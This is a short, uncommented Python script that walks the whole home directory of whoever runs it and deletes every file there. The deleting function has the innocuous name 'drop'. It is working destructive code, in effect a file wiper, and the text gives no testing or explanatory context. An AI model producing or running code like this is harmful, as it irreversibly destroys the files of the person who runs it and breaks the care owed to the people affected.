import os
from pathlib import Path


def drop(path: Path) -> None:
    os.remove(path)


for root, _dirs, files in os.walk(Path.home()):
    for name in files:
        drop(Path(root) / name)
